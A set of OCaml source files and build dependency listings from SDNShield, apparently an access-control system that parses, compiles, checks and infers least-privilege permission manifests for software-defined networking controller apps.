  let id = expect_ident s in
  match Filter.field_of_string id with
  | Some f -> f
  | None -> raise (Parse_error (Printf.sprintf "unknown field %s" id))

let parse_value s : Filter.value =
  match next s with
  | INT i -> Filter.V_int i
  | IP ip -> Filter.V_ip ip
  | t -> raise (Parse_error (Fmt.str "expected value, got %a" pp_token t))

let parse_mask s : Shield_openflow.Types.ipv4 =
  match next s with
  | IP ip -> ip
  | INT i -> Int32.of_int i
  | t -> raise (Parse_error (Fmt.str "expected mask, got %a" pp_token t))

(* Integer lists appear both brace-delimited ({1, 2, 3}) and bare
   (SWITCH 0,1 LINK 3,4 — the paper's Scenario 1 style). *)
let parse_int_list s =
  let braced = peek s = LBRACE in
  if braced then advance s;
  let rec more acc =
    match peek s with
    | INT i ->
      advance s;
      if peek s = COMMA then begin
        advance s;
        more (i :: acc)
      end
      else List.rev (i :: acc)
    | _ -> fail_at s "expected integer list"
  in
  let items = more [] in
  if braced then expect s RBRACE;
  Filter.Int_set.of_list items

let parse_pred s : Filter.singleton =
  let field = expect_field s in
  let value = parse_value s in
  let mask = if eat_kw s "MASK" then Some (parse_mask s) else None in
  (match (value, mask) with
  | Filter.V_int _, Some _ ->
    raise (Parse_error "MASK only applies to IP-valued fields")
  | _ -> ());
  Filter.Pred { field; value; mask }

let parse_action s : Filter.singleton =
  if eat_kw s "DROP" then Filter.Action_f Filter.A_drop
  else if eat_kw s "FORWARD" then Filter.Action_f Filter.A_forward
  else if eat_kw s "MODIFY" then Filter.Action_f (Filter.A_modify (expect_field s))
  else fail_at s "expected DROP, FORWARD or MODIFY"

let parse_virt_topo s : Filter.singleton =
  if eat_kw s "SINGLE_BIG_SWITCH" then begin
    expect_kw s "LINK";
    expect_kw s "EXTERNAL_LINKS";
    Filter.Virt_topo Filter.Single_big_switch
  end
  else begin
    (* VIRTUAL { 1, 2 } AS 100, { 3 } AS 101 *)
    let rec groups acc =
      let set = parse_int_list s in
      expect_kw s "AS";
      let vid = expect_int s in
      let acc = (set, vid) :: acc in
      if peek s = COMMA && peek2 s = LBRACE then begin
        advance s;
        groups acc
      end
      else List.rev acc
    in
    Filter.Virt_topo (Filter.Switch_groups (groups []))
  end

let parse_singleton s : Filter.singleton =
  if eat_kw s "WILDCARD" then begin
    let field = expect_field s in
    let mask = parse_mask s in
    Filter.Wildcard { field; mask }
  end
  else if eat_kw s "ACTION" then parse_action s
  else if at_kw s "DROP" || at_kw s "FORWARD" || at_kw s "MODIFY" then
    parse_action s (* ACTION prefix is optional, per the appendix grammar *)
  else if eat_kw s "OWN_FLOWS" then Filter.Owner Filter.Own_flows
  else if eat_kw s "ALL_FLOWS" then Filter.Owner Filter.All_flows
  else if eat_kw s "MAX_PRIORITY" then Filter.Max_priority (expect_int s)
  else if eat_kw s "MIN_PRIORITY" then Filter.Min_priority (expect_int s)
  else if eat_kw s "MAX_RULE_COUNT" then Filter.Max_rule_count (expect_int s)
  else if eat_kw s "FROM_PKT_IN" then Filter.Pkt_out Filter.From_pkt_in
  else if eat_kw s "ARBITRARY" then Filter.Pkt_out Filter.Arbitrary
  else if eat_kw s "SWITCH" then begin
    let switches = parse_int_list s in
    let links =
      if eat_kw s "LINK" then parse_int_list s else Filter.Int_set.empty
    in
    Filter.Phys_topo { switches; links }
  end
  else if eat_kw s "VIRTUAL" then parse_virt_topo s
  else if eat_kw s "EVENT_INTERCEPTION" then
    Filter.Callback Filter.Event_interception
  else if eat_kw s "MODIFY_EVENT_ORDER" then
    Filter.Callback Filter.Modify_event_order
  else if eat_kw s "FLOW_LEVEL" then
    Filter.Stats_level Shield_openflow.Stats.Flow_level
  else if eat_kw s "PORT_LEVEL" then
    Filter.Stats_level Shield_openflow.Stats.Port_level
  else if eat_kw s "SWITCH_LEVEL" then
    Filter.Stats_level Shield_openflow.Stats.Switch_level
  else
    match peek s with
    | IDENT id when Filter.field_of_string id <> None -> parse_pred s
    | IDENT id when not (is_keyword id) ->
      advance s;
      Filter.Macro id
    | _ -> fail_at s "expected a filter"

let rec parse_filter_expr s : Filter.expr =
  let rec or_loop lhs =
    if eat_kw s "OR" then or_loop (Filter.disj lhs (parse_and s))
    else lhs
  in
  or_loop (parse_and s)

and parse_and s =
  let rec and_loop lhs =
    if eat_kw s "AND" then and_loop (Filter.conj lhs (parse_unary s))
    else lhs
  in
  and_loop (parse_unary s)

and parse_unary s =
  if eat_kw s "NOT" then Filter.neg (parse_unary s)
  else if peek s = LPAREN then begin
    advance s;
    let e = parse_filter_expr s in
    expect s RPAREN;
    e
  end
  else if eat_kw s "TRUE" then Filter.True
  else if eat_kw s "FALSE" then Filter.False
  else Filter.Atom (parse_singleton s)

let parse_perm s : Perm.t =
  expect_kw s "PERM";
  let name = expect_ident s in
  match Token.of_string name with
  | None -> raise (Parse_error (Printf.sprintf "unknown permission token %s" name))
  | Some token ->
    let filter =
      if eat_kw s "LIMITING" then parse_filter_expr s else Filter.True
    in
    { Perm.token; filter }

(** Parse a sequence of PERM statements up to [stop] (EOF or RBRACE). *)
let parse_perm_list s : Perm.t list =
  let rec go acc =
    if at_kw s "PERM" then go (parse_perm s :: acc) else List.rev acc
  in
  go []

(** Parse a full permission manifest from source text. *)
let manifest_of_string src : (Perm.manifest, string) result =
  try
    let s = of_string src in
    let perms = parse_perm_list s in
    match peek s with
    | EOF -> Ok (Perm.normalize perms)
    | t -> Error (Fmt.str "trailing input at %a" pp_token t)
  with
  | Parse_error msg -> Error msg
  | Lex_error msg -> Error msg

(** Parse a bare filter expression (used for filter macros in policies
    and in tests). *)
let filter_of_string src : (Filter.expr, string) result =
  try
    let s = of_string src in
    let e = parse_filter_expr s in
    match peek s with
    | EOF -> Ok e
    | t -> Error (Fmt.str "trailing input at %a" pp_token t)
  with
  | Parse_error msg -> Error msg
  | Lex_error msg -> Error msg

let manifest_exn src =
  match manifest_of_string src with
  | Ok m -> m
  | Error e -> invalid_arg ("manifest_exn: " ^ e)
