(** Security-policy language AST (paper Appendix B).

    A policy is a sequence of bindings and constraints: [LET] names
    permission sets, references app manifests or defines filter macros
    that expand developer stubs; [ASSERT EITHER … OR …] declares mutual
    exclusions (§V-A) and [ASSERT a <= b] permission boundaries over
    the manifest lattice. *)

type perm_expr =
  | P_var of string
  | P_block of Perm.manifest
  | P_meet of perm_expr * perm_expr
  | P_join of perm_expr * perm_expr

type cmp = C_le | C_lt | C_ge | C_gt | C_eq

type assert_expr =
  | A_cmp of perm_expr * cmp * perm_expr
  | A_and of assert_expr * assert_expr
  | A_or of assert_expr * assert_expr
  | A_not of assert_expr

type binding_rhs =
  | B_perm of perm_expr
  | B_filter of Filter.expr  (** Filter macro: expands developer stubs. *)
  | B_app of string  (** Reference to a named app's manifest. *)

type stmt =
  | Let of string * binding_rhs
  | Assert_exclusive of perm_expr * perm_expr
  | Assert of assert_expr

type t = stmt list

val cmp_to_string : cmp -> string
val perm_expr_vars : perm_expr -> string list
val assert_expr_vars : assert_expr -> string list
val pp_perm_expr : Format.formatter -> perm_expr -> unit
val pp_assert_expr : Format.formatter -> assert_expr -> unit
val pp_stmt : Format.formatter -> stmt -> unit
val pp : Format.formatter -> t -> unit
