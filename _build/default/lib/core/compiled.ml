(* Closure-compiled permission checking.

   The paper's permission engine "compiles the permission manifest into
   the runtime checking code" when the app is loaded (§III).  This
   module is that compilation strategy: each filter expression is
   translated once into a closure tree (constant parts — masks,
   defaults, field selectors — pre-resolved), and the manifest into a
   token-indexed array, so the per-call work is pure closure
   application with no AST dispatch or association-list lookup.

   [Engine] interprets the AST per call; benchmarks compare the two
   (bench/main.exe ablation-compile).  Semantics are identical —
   property-tested in test/test_compiled.ml. *)

type checker_fn = Filter_eval.env -> Attrs.t -> bool

let compile_singleton (s : Filter.singleton) : checker_fn =
  match s with
  | Filter.Pred { field; value; mask } ->
    (* Pre-resolve the mask/value so the hot path is a compare. *)
    let fmask = Option.value mask ~default:0xFFFFFFFFl in
    let masked_value =
      match value with
      | Filter.V_ip ip -> Int32.logand ip fmask
      | Filter.V_int _ -> 0l
    in
    fun _env attrs ->
      if not (Attrs.has_header_dimension attrs) then true
      else begin
        match Attrs.field_value attrs field with
        | Attrs.No_dimension -> true
        | Attrs.Unconstrained -> false
        | Attrs.Ip_range (addr, call_mask) -> (
          match value with
          | Filter.V_ip _ ->
            Int32.logand fmask (Int32.lognot call_mask) = 0l
            && Int32.logand addr fmask = masked_value
          | Filter.V_int _ -> false)
        | Attrs.Exact_int i -> (
          match value with
          | Filter.V_int v -> i = v
          | Filter.V_ip ip -> Int32.of_int i = ip)
      end
  | _ ->
    (* The remaining singletons have no meaningful constant folding;
       delegate to the interpreter's primitive. *)
    fun env attrs -> Filter_eval.eval_singleton env s attrs

let rec compile (e : Filter.expr) : checker_fn =
  match e with
  | Filter.True -> fun _ _ -> true
  | Filter.False -> fun _ _ -> false
  | Filter.Atom s -> compile_singleton s
  | Filter.And (a, b) ->
    let ca = compile a and cb = compile b in
    fun env attrs -> ca env attrs && cb env attrs
  | Filter.Or (a, b) ->
    let ca = compile a and cb = compile b in
    fun env attrs -> ca env attrs || cb env attrs
  | Filter.Not a ->
    let ca = compile a in
    fun env attrs -> not (ca env attrs)

(* Token-indexed dispatch. *)
let token_index : Token.t -> int =
  let tbl = Hashtbl.create 16 in
  List.iteri (fun i t -> Hashtbl.replace tbl t i) Token.all;
  fun t -> Hashtbl.find tbl t

type t = {
  slots : checker_fn option array;  (** Indexed by token. *)
  env : Filter_eval.env;
}

(** Compile [manifest] once.  [env] supplies the stateful dimensions
    (defaults to the pure environment for stateless checking). *)
let of_manifest ?(env = Filter_eval.pure_env) (manifest : Perm.manifest) : t =
  let slots = Array.make (List.length Token.all) None in
  List.iter
    (fun (p : Perm.t) ->
      slots.(token_index p.Perm.token) <- Some (compile p.Perm.filter))
    manifest;
  { slots; env }

(** Check a call: token slot lookup + compiled closure application. *)
let check (t : t) (call : Shield_controller.Api.call) :
    Shield_controller.Api.decision =
  match Engine.token_of_call call with
  | None -> Shield_controller.Api.Allow
  | Some token -> (
    match t.slots.(token_index token) with
    | None ->
      Shield_controller.Api.Deny
        ("missing permission " ^ Token.to_string token)
    | Some fn ->
      if fn t.env (Attrs.of_call call) then Shield_controller.Api.Allow
      else Shield_controller.Api.Deny "filter rejects call")
