(** Attribute extraction — the bridge between concrete
    {!Shield_controller.Api.call} values and the abstract attributes
    permission filters inspect (§IV: "any of the runtime arguments or
    context of an API call"). *)

open Shield_openflow
open Shield_openflow.Types
open Shield_controller

type call_kind =
  | K_insert_flow  (** Flow-mod add or modify. *)
  | K_delete_flow
  | K_read_flow_table
  | K_read_topology
  | K_modify_topology
  | K_read_stats
  | K_pkt_out
  | K_event of Api.event_kind
  | K_read_payload
  | K_publish
  | K_net_syscall
  | K_file_syscall
  | K_proc_syscall

type t = {
  kind : call_kind;
  match_ : Match_fields.t option;  (** Flow-mod match / read pattern. *)
  actions : Action.t list option;
  priority : int option;
  dpid : dpid option;
  stats_level : Stats.level option;
  packet : Packet.t option;  (** Packet-out payload. *)
  net_dst : (ipv4 * int) option;  (** Host-network syscall endpoint. *)
  from_pkt_in : bool option;
  flow_command : Flow_mod.command option;
  cookie : int option;
      (** Owner of the entity under inspection — set when vetting the
          visibility of an existing flow entry, never for calls. *)
}

val base : call_kind -> t
(** An attribute record with every optional attribute absent. *)

val of_call : Api.call -> t
(** Flatten a call into its inspectable attributes. *)

(** What an attribute says about one header field. *)
type field_info =
  | Ip_range of ipv4 * ipv4  (** (addr, mask): the call covers this range. *)
  | Exact_int of int
  | Unconstrained  (** The call has the dimension but leaves it open. *)
  | No_dimension  (** The call has no such attribute at all. *)

val field_value : t -> Filter.field -> field_info
(** What the call constrains header field [f] to: flow-mod-like calls
    expose their match fields, packet-outs the concrete payload
    headers, and host-network syscalls their destination under
    [IP_DST]/[TCP_DST]. *)

val has_header_dimension : t -> bool
(** Does this call kind carry header-field attributes at all?  A
    predicate filter on a kind without them passes vacuously
    (§IV-B). *)
