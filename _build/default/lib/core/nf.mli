(** Normal forms over filter expressions, as used by Algorithm 1
    (§V-B1): filter A goes to CNF, filter B to DNF, and singleton
    filters are compared clause-pairwise. *)

type literal = { positive : bool; atom : Filter.singleton }
type clause = literal list

exception Too_large
(** Raised when distribution exceeds [max_clauses]; callers fall back
    to a conservative answer. *)

val pos : Filter.singleton -> literal
val negl : Filter.singleton -> literal
val pp_literal : Format.formatter -> literal -> unit

val cnf : ?max_clauses:int -> Filter.expr -> clause list
(** Conjunction of disjunctive clauses.  [[]] = True; a member [[]] is
    a False clause.  [max_clauses] defaults to 4096. *)

val dnf : ?max_clauses:int -> Filter.expr -> clause list
(** Disjunction of conjunctive clauses.  [[]] = False; a member [[]] is
    a True clause. *)

val expr_of_cnf : clause list -> Filter.expr
(** Rebuild an expression from CNF clauses (semantics-preserving,
    property-tested). *)

val expr_of_dnf : clause list -> Filter.expr
