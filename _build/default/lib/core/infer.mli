(** Automatic permission-manifest generation by dynamic analysis
    (§III): run the app under a recording checker, then synthesise a
    least-privilege manifest from the observed call stream — only the
    tokens used, IP predicates narrowed to the smallest covering
    prefix, action filters covering exactly the observed kinds, the
    observed priority ceiling, packet-out provenance and statistics
    levels.

    Guarantee (property-tested): the inferred manifest admits every
    recorded call. *)

open Shield_controller

val recorder : unit -> Api.checker * (unit -> Api.call list)
(** An allow-all checker that records the call stream (thread-safe);
    the closure returns the trace in issue order. *)

val of_trace : Api.call list -> Perm.manifest
(** Synthesise a least-privilege manifest from an observed trace. *)

val of_app_run : kernel:Kernel.t -> App.t -> Events.t list -> Perm.manifest
(** Run [app] once under a recorder in a throwaway monolithic runtime,
    feeding it [events], and infer its manifest — including the
    implicit event-receipt and payload-access permissions the runtime
    checks. *)
