(* Automatic permission-manifest generation by dynamic analysis.

   §III: "A permission manifest can be automatically generated from app
   source code with static/dynamic analysis tools ... Then, the
   developers can refine the permission manifest."  This module is the
   dynamic-analysis tool: run the app under a recording checker
   ([recorder], which allows everything and logs the API-call stream),
   then [of_trace] synthesises a least-privilege manifest:

   - only the tokens the app actually used;
   - IP predicates narrowed to the smallest common prefix covering the
     observed addresses;
   - action filters covering exactly the observed action kinds;
   - the observed priority ceiling and packet-out provenance;
   - statistics limited to the observed levels.

   The guarantee (property-tested): every recorded call is allowed by
   the inferred manifest, and anything outside the observed envelope is
   not. *)

open Shield_openflow
open Shield_openflow.Types
open Shield_controller

(* Recorder -------------------------------------------------------------------- *)

(** An allow-all checker that records the call stream.  [calls ()]
    returns the trace in issue order. *)
let recorder () : Api.checker * (unit -> Api.call list) =
  let log = ref [] in
  let mutex = Mutex.create () in
  let push call =
    Mutex.lock mutex;
    log := call :: !log;
    Mutex.unlock mutex
  in
  ( { Api.allow_all with
      Api.check =
        (fun call ->
          push call;
          Api.Allow);
      check_transaction =
        (fun calls ->
          List.iter push calls;
          Ok ()) },
    fun () -> List.rev !log )

(* IP-range hulls ---------------------------------------------------------------- *)

type hull = {
  mutable range : (ipv4 * ipv4) option;  (** (addr, mask) covering all. *)
  mutable unconstrained : bool;  (** Saw a call leaving the field open. *)
  mutable present : bool;
}

let new_hull () = { range = None; unconstrained = false; present = false }

(** Smallest common prefix covering two masked ranges. *)
let merge_range (a1, m1) (a2, m2) =
  let rec shrink len =
    if len = 0 then (0l, 0l)
    else
      let m = prefix_mask len in
      if
        Int32.logand m m1 = m && Int32.logand m m2 = m
        && Int32.logand a1 m = Int32.logand a2 m
      then (Int32.logand a1 m, m)
      else shrink (len - 1)
  in
  shrink 32

let hull_add h (info : Attrs.field_info) =
  match info with
  | Attrs.No_dimension -> ()
  | Attrs.Unconstrained ->
    h.present <- true;
    h.unconstrained <- true
  | Attrs.Ip_range (addr, mask) ->
    h.present <- true;
    h.range <-
      (match h.range with
      | None -> Some (Int32.logand addr mask, mask)
      | Some r -> Some (merge_range r (addr, mask)))
  | Attrs.Exact_int _ -> ()

let hull_filter field h : Filter.expr option =
  if (not h.present) || h.unconstrained then None
  else
    match h.range with
    | Some (addr, mask) when mask <> 0l ->
      Some (Filter.ip_subnet field addr mask)
    | _ -> None

(* Per-token accumulators ----------------------------------------------------------- *)

type flow_acc = {
  dst_hull : hull;
  src_hull : hull;
  mutable max_priority : int;
  mutable kinds : Filter.action_kind list;  (** Deduplicated. *)
  mutable seen : bool;
}

let new_flow_acc () =
  { dst_hull = new_hull (); src_hull = new_hull (); max_priority = 0;
    kinds = []; seen = false }

let add_kind acc k = if not (List.mem k acc.kinds) then acc.kinds <- k :: acc.kinds

let observe_actions acc (actions : Action.t list) =
  if actions = [] then add_kind acc Filter.A_drop
  else begin
    let sets = Action.modified_fields actions in
    if sets = [] then add_kind acc Filter.A_forward
    else
      List.iter
        (fun sf -> add_kind acc (Filter.A_modify (Filter_eval.field_of_set_field sf)))
        sets
  end

let flow_filter acc : Filter.expr =
  let parts =
    List.filter_map Fun.id
      [ hull_filter Filter.F_ip_dst acc.dst_hull;
        hull_filter Filter.F_ip_src acc.src_hull;
        (match acc.kinds with
        | [] -> None
        | kinds ->
          Some
            (Filter.disj_list
               (List.map (fun k -> Filter.atom (Filter.Action_f k)) kinds)));
        Some (Filter.atom (Filter.Max_priority acc.max_priority)) ]
  in
  Filter.conj_list parts

(* Trace analysis --------------------------------------------------------------------- *)

type acc = {
  insert : flow_acc;
  delete : flow_acc;
  net_hull : hull;
  mutable net_seen : bool;
  mutable stats_levels : Stats.level list;
  mutable pkt_out_all_replays : bool;
  mutable tokens : Token.Set.t;
}

let observe acc (call : Api.call) =
  (match Engine.token_of_call call with
  | Some token -> acc.tokens <- Token.Set.add token acc.tokens
  | None -> ());
  let attrs = Attrs.of_call call in
  match attrs.Attrs.kind with
  | Attrs.K_insert_flow | Attrs.K_delete_flow ->
    let facc =
      if attrs.Attrs.kind = Attrs.K_insert_flow then acc.insert else acc.delete
    in
    facc.seen <- true;
    hull_add facc.dst_hull (Attrs.field_value attrs Filter.F_ip_dst);
    hull_add facc.src_hull (Attrs.field_value attrs Filter.F_ip_src);
    Option.iter
      (fun p -> facc.max_priority <- max facc.max_priority p)
      attrs.Attrs.priority;
    Option.iter (observe_actions facc) attrs.Attrs.actions
  | Attrs.K_read_stats ->
    Option.iter
      (fun l ->
        if not (List.mem l acc.stats_levels) then
          acc.stats_levels <- l :: acc.stats_levels)
      attrs.Attrs.stats_level
  | Attrs.K_pkt_out ->
    if attrs.Attrs.from_pkt_in <> Some true then acc.pkt_out_all_replays <- false
  | Attrs.K_net_syscall ->
    acc.net_seen <- true;
    hull_add acc.net_hull (Attrs.field_value attrs Filter.F_ip_dst)
  | _ -> ()

(** Synthesise a least-privilege manifest from an observed call
    trace. *)
let of_trace (trace : Api.call list) : Perm.manifest =
  let acc =
    { insert = new_flow_acc (); delete = new_flow_acc ();
      net_hull = new_hull (); net_seen = false; stats_levels = [];
      pkt_out_all_replays = true; tokens = Token.Set.empty }
  in
  List.iter (observe acc) trace;
  let perm_for (token : Token.t) : Perm.t =
    let filter =
      match token with
      | Token.Insert_flow when acc.insert.seen -> flow_filter acc.insert
      | Token.Delete_flow when acc.delete.seen -> flow_filter acc.delete
      | Token.Read_statistics when acc.stats_levels <> [] ->
        Filter.disj_list
          (List.map (fun l -> Filter.atom (Filter.Stats_level l)) acc.stats_levels)
      | Token.Send_pkt_out ->
        if acc.pkt_out_all_replays then
          Filter.atom (Filter.Pkt_out Filter.From_pkt_in)
        else Filter.atom (Filter.Pkt_out Filter.Arbitrary)
      | Token.Host_network -> (
        match hull_filter Filter.F_ip_dst acc.net_hull with
        | Some f -> f
        | None -> Filter.True)
      | _ -> Filter.True
    in
    { Perm.token; filter = Perm_ops.simplify_expr filter }
  in
  Perm.normalize (List.map perm_for (Token.Set.elements acc.tokens))

(** Convenience: run [app] once under a recorder in a throwaway
    monolithic runtime, feeding it [events], and infer its manifest
    from what it did. *)
let of_app_run ~kernel (app : App.t) (events : Events.t list) : Perm.manifest =
  let checker, calls = recorder () in
  let rt = Runtime.create ~mode:Runtime.Monolithic kernel [ (app, checker) ] in
  List.iter (Runtime.feed_sync rt) events;
  Runtime.shutdown rt;
  (* Event receipt and payload access are implicit calls the runtime
     checks; the recorder saw them, so they land in the trace too. *)
  of_trace (calls ())
