(* Set operations on permission expressions (§V-A/§V-B2).

   Manifests denote behaviour sets, so MEET/JOIN/complement are defined
   as generalisations of filter conjunction/disjunction/negation,
   applied token-wise (tokens partition the behaviour space):

     meet A B : token in both, filters conjoined — the reconciliation
                repair for boundary violations;
     join A B : token union, filters disjoined;
     complement A : for every token of the universe, the behaviours A
                does not allow. *)

(* Light syntactic simplification: constant folding via the smart
   constructors plus flatten/dedup/complement detection on n-ary
   AND/OR levels.  Keeps reconciled filters readable; not a full
   minimiser. *)
let rec flatten_and = function
  | Filter.And (a, b) -> flatten_and a @ flatten_and b
  | e -> [ e ]

let rec flatten_or = function
  | Filter.Or (a, b) -> flatten_or a @ flatten_or b
  | e -> [ e ]

let dedup es =
  List.fold_left
    (fun acc e -> if List.exists (Filter.equal_expr e) acc then acc else e :: acc)
    [] es
  |> List.rev

let complementary a b =
  match (a, b) with
  | Filter.Not x, y | y, Filter.Not x -> Filter.equal_expr x y
  | _ -> false

let has_complementary_pair es =
  List.exists (fun a -> List.exists (fun b -> complementary a b) es) es

let rec simplify_expr (e : Filter.expr) : Filter.expr =
  match e with
  | Filter.True | Filter.False | Filter.Atom _ -> e
  | Filter.Not a -> Filter.neg (simplify_expr a)
  | Filter.And _ ->
    let parts = flatten_and e |> List.map simplify_expr in
    let parts = List.concat_map flatten_and parts |> dedup in
    if List.exists (( = ) Filter.False) parts || has_complementary_pair parts
    then Filter.False
    else Filter.conj_list (List.filter (( <> ) Filter.True) parts)
  | Filter.Or _ ->
    let parts = flatten_or e |> List.map simplify_expr in
    let parts = List.concat_map flatten_or parts |> dedup in
    if List.exists (( = ) Filter.True) parts || has_complementary_pair parts
    then Filter.True
    else Filter.disj_list (List.filter (( <> ) Filter.False) parts)

let simplify (m : Perm.manifest) : Perm.manifest =
  List.map (fun (p : Perm.t) -> { p with Perm.filter = simplify_expr p.filter }) m
  |> Perm.normalize

(** [meet a b] — behaviours allowed by both manifests. *)
let meet (a : Perm.manifest) (b : Perm.manifest) : Perm.manifest =
  List.filter_map
    (fun (pa : Perm.t) ->
      match Perm.find b pa.token with
      | Some pb ->
        let filter = simplify_expr (Filter.conj pa.filter pb.filter) in
        if filter = Filter.False then None
        else Some { Perm.token = pa.token; filter }
      | None -> None)
    a

(** [join a b] — behaviours allowed by either manifest. *)
let join (a : Perm.manifest) (b : Perm.manifest) : Perm.manifest =
  simplify (Perm.normalize (a @ b))

(** [complement a] — every behaviour [a] does not allow, across the
    full token universe. *)
let complement (a : Perm.manifest) : Perm.manifest =
  List.filter_map
    (fun token ->
      match Perm.find a token with
      | None -> Some { Perm.token; filter = Filter.True }
      | Some p -> (
        match simplify_expr (Filter.neg p.filter) with
        | Filter.False -> None
        | filter -> Some { Perm.token; filter }))
    Token.all

(** [subtract a b] = a ∩ complement(b): what remains of [a] after
    removing [b]'s behaviours.  This is the truncation primitive used
    to repair mutual-exclusion violations. *)
let subtract (a : Perm.manifest) (b : Perm.manifest) : Perm.manifest =
  List.filter_map
    (fun (pa : Perm.t) ->
      match Perm.find b pa.token with
      | None -> Some pa
      | Some pb -> (
        match simplify_expr (Filter.conj pa.filter (Filter.neg pb.filter)) with
        | Filter.False -> None
        | filter -> Some { pa with Perm.filter }))
    a
