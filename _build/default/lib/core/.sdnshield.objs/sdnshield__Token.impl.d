lib/core/token.ml: Fmt Stdlib String
