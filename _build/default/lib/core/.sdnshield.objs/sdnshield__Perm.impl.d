lib/core/perm.ml: Filter Fmt List Option Token
