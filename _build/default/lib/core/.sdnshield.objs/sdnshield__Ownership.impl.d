lib/core/ownership.ml: Flow_mod Fun Hashtbl List Match_fields Mutex Option Shield_openflow
