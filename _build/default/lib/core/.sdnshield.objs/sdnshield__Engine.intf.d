lib/core/engine.mli: Api Ownership Perm Shield_controller Shield_net Token Topology
