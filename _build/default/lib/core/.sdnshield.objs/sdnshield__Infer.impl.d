lib/core/infer.ml: Action Api App Attrs Engine Events Filter Filter_eval Fun Int32 List Mutex Option Perm Perm_ops Runtime Shield_controller Shield_openflow Stats Token
