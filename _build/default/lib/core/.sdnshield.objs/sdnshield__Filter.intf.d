lib/core/filter.mli: Format Set Shield_openflow
