lib/core/attrs.ml: Action Api Filter Flow_mod Match_fields Option Packet Shield_controller Shield_net Shield_openflow Stats Types
