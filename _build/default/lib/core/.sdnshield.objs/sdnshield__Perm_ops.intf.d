lib/core/perm_ops.mli: Filter Perm
