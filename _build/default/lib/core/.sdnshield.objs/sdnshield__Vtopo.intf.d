lib/core/vtopo.mli: Api Filter Flow_mod Shield_controller Shield_net Shield_openflow Stats Topology
