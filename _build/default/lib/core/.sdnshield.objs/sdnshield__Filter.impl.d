lib/core/filter.ml: Fmt Int List Set Shield_openflow String
