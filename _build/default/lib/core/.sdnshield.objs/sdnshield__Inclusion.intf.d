lib/core/inclusion.mli: Filter Perm
