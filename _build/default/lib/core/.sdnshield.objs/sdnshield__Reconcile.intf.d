lib/core/reconcile.mli: Format Perm Policy
