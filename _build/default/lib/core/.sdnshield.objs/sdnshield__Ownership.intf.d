lib/core/ownership.mli: Flow_mod Match_fields Shield_openflow
