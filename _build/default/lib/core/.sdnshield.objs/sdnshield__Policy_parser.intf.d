lib/core/policy_parser.mli: Policy
