lib/core/reconcile.ml: Filter Fmt Inclusion List Perm Perm_ops Perm_parser Policy Policy_parser Printf
