lib/core/engine.ml: Api Attrs Filter Filter_eval Flow_mod List Mutex Ownership Perm Printf Shield_controller Shield_net Shield_openflow Stats Stdlib String Token Topology Vtopo
