lib/core/infer.mli: Api App Events Kernel Perm Shield_controller
