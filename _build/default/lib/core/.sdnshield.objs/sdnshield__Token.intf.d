lib/core/token.mli: Format Map Set
