lib/core/nf.ml: Filter Fmt List
