lib/core/perm_parser.mli: Filter Lexer Perm
