lib/core/compiled.ml: Array Attrs Engine Filter Filter_eval Hashtbl Int32 List Option Perm Shield_controller Token
