lib/core/perm_parser.ml: Filter Fmt Int32 Lexer List Perm Printf Shield_openflow String Token
