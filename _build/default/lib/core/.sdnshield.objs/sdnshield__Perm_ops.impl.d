lib/core/perm_ops.ml: Filter List Perm Token
