lib/core/perm.mli: Filter Format Token
