lib/core/vtopo.ml: Action Api Filter Filter_eval Flow_mod List Match_fields Shield_controller Shield_net Shield_openflow Stats Topology
