lib/core/filter_eval.mli: Action Attrs Filter Shield_openflow Types
