lib/core/policy.mli: Filter Format Perm
