lib/core/filter_eval.ml: Action Attrs Filter Flow_mod Int32 List Option Shield_openflow Types
