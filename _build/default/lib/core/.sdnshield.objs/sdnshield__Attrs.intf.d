lib/core/attrs.mli: Action Api Filter Flow_mod Match_fields Packet Shield_controller Shield_openflow Stats
