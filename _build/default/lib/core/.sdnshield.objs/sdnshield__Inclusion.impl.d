lib/core/inclusion.ml: Filter Int32 List Nf Option Perm
