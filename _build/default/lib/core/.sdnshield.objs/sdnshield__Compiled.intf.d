lib/core/compiled.mli: Attrs Filter Filter_eval Perm Shield_controller
