lib/core/policy_parser.ml: Fmt Lexer List Perm Perm_parser Policy String
