lib/core/nf.mli: Filter Format
