lib/core/policy.ml: Filter Fmt Perm
