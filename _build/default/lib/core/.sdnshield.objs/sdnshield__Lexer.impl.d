lib/core/lexer.ml: Fmt List Printf Shield_openflow String
