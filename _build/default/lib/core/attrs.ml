(* Attribute extraction: the bridge between concrete [Api.call] values
   and the abstract attributes permission filters inspect.

   "We use the term attribute to refer to any of the runtime arguments
   or context of an API call" (§IV).  [of_call] flattens a call into
   its inspectable attributes; [field_value] answers "what does this
   call say about header field F?" uniformly for flow-mod matches,
   packet-out payload headers, and host-network syscall endpoints. *)

open Shield_openflow
open Shield_openflow.Types
open Shield_controller

type call_kind =
  | K_insert_flow  (** Flow-mod add or modify. *)
  | K_delete_flow
  | K_read_flow_table
  | K_read_topology
  | K_modify_topology
  | K_read_stats
  | K_pkt_out
  | K_event of Api.event_kind
  | K_read_payload
  | K_publish
  | K_net_syscall
  | K_file_syscall
  | K_proc_syscall

type t = {
  kind : call_kind;
  match_ : Match_fields.t option;  (** Flow-mod match / read pattern. *)
  actions : Action.t list option;
  priority : int option;
  dpid : dpid option;
  stats_level : Stats.level option;
  packet : Packet.t option;  (** Packet-out payload. *)
  net_dst : (ipv4 * int) option;  (** Host-network syscall endpoint. *)
  from_pkt_in : bool option;
  flow_command : Flow_mod.command option;
  cookie : int option;
      (** Owner of the entity under inspection — set when vetting the
          visibility of an existing flow entry, not for calls. *)
}

let base kind =
  { kind; match_ = None; actions = None; priority = None; dpid = None;
    stats_level = None; packet = None; net_dst = None; from_pkt_in = None;
    flow_command = None; cookie = None }

let of_call (call : Api.call) : t =
  match call with
  | Api.Install_flow (dpid, fm) ->
    let kind =
      match fm.Flow_mod.command with
      | Flow_mod.Add | Flow_mod.Modify -> K_insert_flow
      | Flow_mod.Delete -> K_delete_flow
    in
    { (base kind) with
      match_ = Some fm.Flow_mod.match_;
      actions = Some fm.Flow_mod.actions;
      priority = Some fm.Flow_mod.priority;
      dpid = Some dpid;
      flow_command = Some fm.Flow_mod.command }
  | Api.Read_flow_table { dpid; pattern } ->
    { (base K_read_flow_table) with dpid; match_ = pattern }
  | Api.Read_topology -> base K_read_topology
  | Api.Modify_topology change ->
    let dpid =
      match change with
      | Api.Add_switch d | Api.Remove_switch d -> Some d
      | Api.Add_link (a, _) | Api.Remove_link (a, _) ->
        Some a.Shield_net.Topology.dpid
    in
    { (base K_modify_topology) with dpid }
  | Api.Read_stats req ->
    { (base K_read_stats) with
      dpid = req.Stats.dpid_filter;
